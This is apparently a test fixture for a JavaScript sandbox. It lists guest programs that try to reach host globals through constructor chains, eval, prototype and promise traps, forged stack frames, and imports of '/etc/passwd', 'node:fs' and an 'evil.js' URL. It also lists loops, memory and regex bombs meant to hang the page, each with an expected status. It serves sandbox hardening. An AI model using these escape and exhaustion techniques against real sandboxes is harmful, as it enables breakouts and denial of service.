/** Programs that try to escape from the sandbox or to stop the page. */
import type { CodeExecutionStatus } from '../../../src/sandbox.ts';

/** A program and its expected status. A `success` must return `[]`, the list of the host's names that the program found. */
export interface Escape {
  readonly name: string;
  readonly source: string;
  readonly ends: CodeExecutionStatus | readonly CodeExecutionStatus[];
}

/** Names of host globals. `found(value)` lists the names that a value has as properties. */
const PROBE = `
  const NAMES = ['process', 'require', 'fetch', 'XMLHttpRequest', 'WebSocket', 'document', 'window', 'self', 'postMessage',
    'importScripts', 'WebAssembly', 'setTimeout', 'navigator', 'indexedDB', 'caches', 'Deno', 'Bun', 'Buffer', 'performance'];
  export function found(value) {
    return NAMES.filter((name) => { try { return value[name] !== undefined } catch { return false } });
  }`;

const importProbe = "import { found } from './probe.js';";

/** The capabilities of every program: data, a bridged function, a module, and the probe. */
export function capabilities(seen: (args: readonly unknown[]) => void) {
  const host = (...args: unknown[]) => {
    seen(args);
    return { given: args.length, list: [1, { deep: true }], when: new Date(0), map: new Map([[1, 2]]) };
  };
  return {
    language: 'javascript' as const,
    globals: {
      data: { list: [1, 2], nested: { a: 1 }, bytes: new Uint8Array([1, 2]), when: new Date(0) },
      host,
    },
    imports: { api: { host, data: { x: [1] }, default: 5 } },
    modules: { './probe.js': PROBE },
    report: () => {},
  };
}

const reach = (name: string, expression: string): Escape => ({
  name,
  source: `${importProbe} import * as api from 'api'; export default found(await (${expression}))`,
  ends: 'success',
});
const ends = (name: string, status: Escape['ends'], source: string): Escape => ({
  name,
  source,
  ends: status,
});

export const escapes: readonly Escape[] = [
  // Ways to the global object.
  reach('globalThis', 'globalThis'),
  reach('this of a function', '(0, function () { return this })() ?? {}'),
  reach('this of a sloppy function', 'Function("return this")()'),
  reach('indirect eval', '(0, eval)("this")'),
  reach('direct eval', 'eval("globalThis")'),
  reach('constructor chain of data', 'data.constructor.constructor("return globalThis")()'),
  reach('constructor chain of a nested array', 'data.list.constructor.constructor("return globalThis")()'),
  reach('constructor chain of bytes', 'data.bytes.constructor.constructor("return globalThis")()'),
  reach('constructor chain of a date', 'data.when.constructor.constructor("return globalThis")()'),
  reach('constructor chain of a bridge', 'host.constructor("return globalThis")()'),
  reach(
    'constructor chain of a promise of a bridge',
    'host().constructor.constructor("return globalThis")()',
  ),
  reach(
    'constructor chain of an answer',
    '(await host()).map.constructor.constructor("return globalThis")()',
  ),
  reach('constructor chain of an import', 'api.host.constructor("return globalThis")()'),
  reach('constructor chain of console', 'console.log.constructor("return globalThis")()'),
  reach('constructor chain of report', 'report.constructor("return globalThis")()'),
  reach('async function constructor', '(async () => {}).constructor("return globalThis")()'),
  reach('generator function constructor', '(function* () {}).constructor("yield globalThis")().next().value'),
  reach(
    'async generator constructor',
    '(async function* () {}).constructor("yield globalThis")().next().then((r) => r.value)',
  ),
  reach('caller of a bridge', '(() => { try { return host.caller ?? {} } catch { return {} } })()'),
  reach(
    'arguments.callee.caller',
    'Function("try { return arguments.callee.caller || {} } catch { return {} }")()',
  ),
  reach('the module namespace', 'api'),
  reach('import.meta', 'import.meta'),
  reach(
    'what is left of the preparation',
    'Object.fromEntries(Reflect.ownKeys(globalThis).map((k) => [k, globalThis[k]]))',
  ),
  reach(
    'names of the preparation',
    '[globalThis.__handrail_take__, globalThis.__handrail_started__].find(Boolean) ?? {}',
  ),
  reach('prototype of the global object', 'Object.getPrototypeOf(globalThis)'),
  reach(
    'with statement over a bridge',
    'Function("host", "with (host) { return constructor(\'return globalThis\')() }")(host)',
  ),

  // Ways to the guest through the built-ins that the guest calls.
  reach(
    'promise constructor trap',
    '(() => { let kept = {}; const P = Promise; Object.defineProperty(P.prototype, "constructor", { get() { kept = this; return P } }); return host().then(() => (found(kept).length ? kept : {})) })()',
  ),
  reach(
    'then of Object.prototype',
    '(() => { let kept = {}; Object.defineProperty(Object.prototype, "then", { configurable: true, get() { kept = this; return undefined } }); return host().then(() => { delete Object.prototype.then; return found(kept).length ? kept : {} }) })()',
  ),
  ends(
    'setters on Array.prototype',
    ['success', 'error'],
    `${importProbe} let kept = {}; for (let i = 0; i < 5; i++) Object.defineProperty(Array.prototype, i, { set(v) { kept = this }, configurable: true }); console.log(1, 2); host(1).catch(() => {}); for (let i = 0; i < 5; i++) delete Array.prototype[i]; export default found(kept)`,
  ),
  ends(
    'setters on Array.prototype that throw',
    'error',
    'Object.defineProperty(Array.prototype, 0, { set() { throw 5 } }); export default {}',
  ),
  ends(
    'setters on Array.prototype that never return',
    'error',
    'Object.defineProperty(Array.prototype, 0, { set(v) { [].push(v) } }); await host(1); export default []',
  ),
  ...(['console.log(1)', 'await host(1)'] as const).map((call) =>
    ends(
      `setters on Array.prototype that replace the arguments of ${call}`,
      ['success', 'error'],
      `const forged = { kind: 'object', value: { length: 1e8 }, parent: -1, step: '' };
      Object.defineProperty(Array.prototype, 0, { configurable: true, set(value) { Object.defineProperty(this, 0, { value: value?.kind === 'array' ? forged : value, configurable: true, writable: true }) } });
      ${call}; delete Array.prototype[0]; export default []`,
    ),
  ),
  reach(
    'a replaced JSON, Map, Reflect and Object',
    '(() => { const seen = []; const spy = (o, k) => { const f = o[k]; o[k] = function (...a) { seen.push(this, ...a); return f.apply(this, a) } }; spy(JSON, "stringify"); spy(JSON, "parse"); spy(Map.prototype, "get"); spy(Map.prototype, "set"); spy(Reflect, "apply"); spy(Object, "keys"); return host({ a: 1 }).then(() => seen.find((s) => found(s).length) ?? {}) })()',
  ),
  reach(
    'a replaced Promise',
    '(() => { globalThis.Promise = class extends Promise { constructor(f) { super(f); Object.assign(globalThis, { kept: f }) } }; return host().then(() => globalThis.kept ?? {}) })()',
  ),
  reach(
    'toJSON everywhere',
    '(() => { Object.prototype.toJSON = Array.prototype.toJSON = () => globalThis; return host({ a: [1] }).then((r) => r, (e) => e) })()',
  ),
  reach(
    'thenable answers to the guest',
    '(async () => { let kept = {}; await { then(resolve) { kept = resolve; resolve(1) } }; return kept.constructor("return globalThis")() })()',
  ),
  reach(
    'Error.prepareStackTrace',
    '(() => { let kept = {}; Error.prepareStackTrace = (e, frames) => { kept = frames?.[0]?.getThis?.() ?? {}; return "" }; new Error().stack; host(); return kept })()',
  ),
  reach(
    'a frozen world',
    '(() => { for (const name of Reflect.ownKeys(globalThis)) { try { Object.freeze(globalThis[name]?.prototype) } catch {} } return host({ a: 1 }) })()',
  ),

  // Host paths and frames in errors.
  ends(
    'stack of an own error',
    'success',
    'export default new Error().stack.split("\\n").filter((l) => /\\/|\\\\|wasm|worker/i.test(l))',
  ),
  ends(
    'stack of an error of a bridge',
    'success',
    'export default await host.call(null, Symbol()).then(() => ["answered"], (e) => (e.stack + e.message).split("\\n").filter((l) => /\\/|\\\\|wasm|worker/i.test(l)))',
  ),
  ends(
    'stack overflow inside a bridge',
    ['success', 'error', 'terminated'],
    'function f() { try { host(f()) } catch { return host() } } f(); export default []',
  ),
  ends(
    'stack overflow in a toString of a thrown value',
    'error',
    'const o = { get message() { return o.message } }; throw o; export default 1',
  ),
  ends(
    'a proxy is thrown',
    'error',
    'throw new Proxy({}, { get() { throw new Proxy({}, { get() { throw 1 } }) } }); export default 1',
  ),
  ends(
    'forged frames',
    'error',
    'const e = new Error("x"); e.stack = "    at f (/etc/passwd:1:1)\\n    at handrail:wrapper:1:1"; throw e; export default 1',
  ),

  // Values that imitate other values on their way out.
  ends(
    'a proxy with traps for everything',
    ['success', 'error'],
    'export default new Proxy([], { get(t, k) { return k === "length" ? 0 : Reflect.get(t, k) }, getPrototypeOf() { return Map.prototype }, has() { return true } })',
  ),
  ends('a proxy of a Map', 'success', 'await host(new Proxy(new Map([[1, 2]]), {})); export default []'),
  ends(
    'lying tags',
    'success',
    'await host({ __proto__: { get [Symbol.toStringTag]() { return "Map" } } }, { __proto__: { [Symbol.toStringTag]: "Date" } }); export default []',
  ),
  ends(
    'an own __proto__',
    'success',
    'const o = JSON.parse(\'{"__proto__": {"polluted": 1}}\'); await host(o); report(o); console.log(o); export default []',
  ),
  ends(
    'keys named like methods',
    'success',
    'await host({ toString: 1, valueOf: 2, constructor: 3, hasOwnProperty: 4, then: 5 }); export default []',
  ),
  ends('a getter that throws', 'error', 'export default { get a() { throw new Error("no") } }'),
  ends('a getter that never ends', 'terminated', 'export default { get a() { for (;;); } }'),
  ends(
    'a proxy without end',
    ['error', 'memory', 'terminated'],
    'const p = () => new Proxy({}, { ownKeys: () => ["a"], getOwnPropertyDescriptor: () => ({ value: 1, enumerable: true, configurable: true }), get: p }); export default p()',
  ),
  ends('an array as long as can be', 'error', 'export default new Array(4294967295)'),
  ends(
    'a proxy that claims that length',
    ['error', 'terminated'],
    'export default new Proxy([], { get: (t, k) => k === "length" ? 4294967295 : 1, has: () => true })',
  ),
  ends('a function', 'error', 'export default () => host'),
  ends('a symbol', 'error', 'export default Symbol.for("x")'),
  ends('a WeakRef', 'error', 'export default new WeakRef({})'),
  ends('a generator', 'error', 'export default (function* () { yield 1 })()'),
  ends('shared memory', 'error', 'export default new SharedArrayBuffer(8)'),
  ends(
    'a view of shared memory is a copy',
    'success',
    'await host(new Uint8Array(new SharedArrayBuffer(8))); export default []',
  ),
  ends(
    'one buffer sent many times over',
    'success',
    `const buffer = new ArrayBuffer(2 ** 20), own = Array.prototype[Symbol.iterator]; let left = 25, sent = [];
    Array.prototype[Symbol.iterator] = () => ({ next: () => ({ done: left-- === 0, value: buffer }) });
    try { report(1); sent = ['sent'] } catch {} Array.prototype[Symbol.iterator] = own; export default sent`,
  ),
  ends(
    'a detached or resizable buffer',
    ['success', 'error'],
    'const b = new ArrayBuffer(8, { maxByteLength: 16 }); const v = new Uint8Array(b); b.resize?.(2); await host(v); b.transfer?.(); await host(v); export default []',
  ),
  ends(
    'a buffer that shrinks while it is copied',
    'success',
    'const b = new ArrayBuffer(16, { maxByteLength: 64 }); const v = new Uint8Array(b); await host({ v, get shrink() { b.resize(0); return 1 }, late: v }); export default []',
  ),
  ends(
    'a list that shrinks while it is copied',
    'success',
    'const a = [0, 1, 2, 3]; Object.defineProperty(a, 0, { enumerable: true, get() { a.length = 0; return a } }); await host(a); export default []',
  ),
  ends(
    'a map that grows while it is copied',
    'success',
    'const m = new Map(); const more = () => ({ get a() { if (m.size < 500) m.set(m.size, more()); return 1 } }); m.set(0, more()); await host(m); export default []',
  ),
  ends(
    'data that looks like the wire',
    'success',
    'await host(["F", 0], [["F", 0]], { F: 0 }, ["E", "Error", "", "", 0], [0], ["u"], "[\\"F\\",0]"); export default []',
  ),
  ends(
    'built-ins that are gone',
    'success',
    'for (const name of Reflect.ownKeys(globalThis)) { try { delete globalThis[name] } catch {} } await host({ a: [1] }); export default []',
  ),
  ends('source that closes what it could be wrapped in', 'link_error', '}); globalThis.out = 1; (() => {'),
  ends('a thenable result that never answers', 'terminated', 'export default { then() {} }'),
  ends(
    'a thenable result that answers itself',
    ['terminated', 'error', 'memory'],
    'const t = { then(resolve) { resolve(t) } }; export default t',
  ),
  ends(
    'a result of a million nodes',
    ['error', 'memory', 'terminated'],
    'export default Array.from({ length: 1e6 }, () => ({}))',
  ),
  ends('a text of many megabytes', 'error', 'export default "x".repeat(8e6)'),
  ends(
    'a long linked list',
    ['success', 'error', 'terminated'],
    'let l = null; for (let i = 0; i < 1e5; i++) l = { l }; await host(l); export default []',
  ),
  ends(
    'a regular expression as a bomb',
    'success',
    'await host(new RegExp("(?:a+)+".repeat(1000))); export default []',
  ),
  ends('a bigint of a million digits', ['success', 'error'], 'await host(2n ** 1000000n); export default []'),

  // Modules.
  ends('import of a URL', 'link_error', "import 'https://example.com/evil.js'; export default []"),
  ends('import of data', 'link_error', "import 'data:text/javascript,1'; export default []"),
  ends('import of a file', 'link_error', "import '/etc/passwd'; export default []"),
  ends('import of a path above', 'link_error', "import '../../../../etc/passwd'; export default []"),
  ends('import of a built-in of Node', 'link_error', "import fs from 'node:fs'; export default []"),
  ends(
    'import of the engine itself',
    'link_error',
    "import * as w from 'handrail:wrapper'; export default []",
  ),
  ends(
    'import of a module of imports by its inner name',
    'link_error',
    "import * as w from 'handrail:import api'; export default []",
  ),
  ends(
    'import() of a URL, caught',
    'success',
    "export default await import('https://example.com/evil.js').then((m) => [m], () => [])",
  ),
  ends(
    'import() built at run time',
    'success',
    'export default await Function(\'return import("node:fs")\')().then((m) => [m], () => [])',
  ),
  ends(
    'import() of itself',
    'success',
    "export default await import('./nope.js').then(() => ['x'], () => [])",
  ),
  ends(
    'import attributes',
    'link_error',
    "import x from './probe.json' with { type: 'json' }; export default []",
  ),
  ends(
    'a specifier with a trap',
    ['success', 'error'],
    'let n = 0; export default await import({ toString() { n++; return n > 1 ? "api" : "https://x" } }).then(() => ["x"], () => [])',
  ),

  // Programs that try to stop the page.
  ends('a tight loop', 'terminated', 'for (;;); export default []'),
  ends(
    'a loop that catches everything',
    'terminated',
    'for (;;) { try { for (;;); } catch {} finally { continue } } export default []',
  ),
  ends('endless microtasks', 'terminated', 'for (;;) await null; export default []'),
  ends(
    'microtasks that multiply',
    ['terminated', 'memory', 'error'],
    'const f = async () => { f(); f(); await null }; await f(); for (;;) await null; export default []',
  ),
  ends(
    'a regular expression that never ends',
    'terminated',
    '/^(\\w+\\s?)*$/.test("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"); export default []',
  ),
  ends('recursion', 'error', 'const f = () => f(); f(); export default []'),
  ends('recursion through a sort', 'error', 'const f = () => [2, 1].sort(f); f(); export default []'),
  ends(
    'recursion through a proxy',
    'error',
    'const p = new Proxy({}, { get: (t, k, r) => r[k] }); p.x; export default []',
  ),
  ends('recursion through replace', 'error', 'const f = () => "a".replace(/a/, f); f(); export default []'),
  ends('recursion of the parser', ['error', 'link_error'], 'eval("[".repeat(1e5)); export default []'),
  ends(
    'recursion of the JSON parser',
    ['success', 'error', 'terminated'],
    'try { JSON.parse("[".repeat(1e6)) } catch {} export default []',
  ),
  ends(
    'recursion of the JSON writer',
    ['success', 'error', 'terminated'],
    'let o = {}; for (let i = 0; i < 1e5; i++) o = { o }; try { JSON.stringify(o) } catch {} export default []',
  ),
  ends('source nested deeper than can be parsed', 'link_error', `export default ${'['.repeat(1e5)}`),
  ends('memory by objects', 'memory', 'const all = []; for (;;) all.push({ all }); export default []'),
  ends('memory by a string', 'memory', 'let s = "x"; for (;;) s += s; export default []'),
  ends('memory by join', 'memory', 'new Array(1e9).join("x"); export default []'),
  ends(
    'memory by buffers',
    'memory',
    'const all = []; for (;;) all.push(new ArrayBuffer(1e6)); export default []',
  ),
  ends(
    'memory by a map',
    'memory',
    'const m = new Map(); for (let i = 0; ; i++) m.set(i, i); export default []',
  ),
  ends(
    'memory by closures',
    'memory',
    'let f = () => 1; const all = []; for (;;) { const g = f; f = () => g; all.push(f) } export default []',
  ),
  ends(
    'memory by symbols',
    'memory',
    'const all = []; for (let i = 0; ; i++) all.push(Symbol.for("s" + i)); export default []',
  ),
  ends(
    'memory by BigInt',
    ['memory', 'terminated', 'error'],
    'let n = 3n; for (;;) n *= n; export default []',
  ),
  ends(
    'memory, caught again and again',
    'memory',
    'for (;;) { try { const a = []; for (;;) a.push(new Uint8Array(1e6)) } catch {} } export default []',
  ),
  ends(
    'memory by a generated program',
    ['memory', 'error', 'link_error'],
    'eval("x=1;".repeat(5e6)); export default []',
  ),
  ends(
    'memory by the regular expression compiler',
    ['memory', 'error', 'success'],
    'new RegExp("(?:a{0,1000}){0,1000}".repeat(10000)); export default []',
  ),
  ends(
    'a flood of logs',
    'terminated',
    'for (;;) { try { console.log("x".repeat(1000)) } catch {} } export default []',
  ),
  ends(
    'a flood of reports',
    'terminated',
    'for (;;) { try { report("x".repeat(100000)) } catch {} } export default []',
  ),
  ends(
    'a flood of reports, not caught',
    ['error', 'terminated'],
    'for (;;) report("x".repeat(100000)); export default []',
  ),
  ends('a flood of calls', 'terminated', 'for (;;) host().catch(() => {}); export default []'),
  ends('a flood of small logs', ['terminated', 'error'], 'for (;;) console.log(1); export default []'),
  ends('an await that nothing can settle', 'terminated', 'await new Promise(() => {}); export default []'),
  ends(
    'FinalizationRegistry and WeakRef games',
    'success',
    'const r = new FinalizationRegistry(() => { for (;;); }); for (let i = 0; i < 1000; i++) r.register({}, i); export default []',
  ),
];
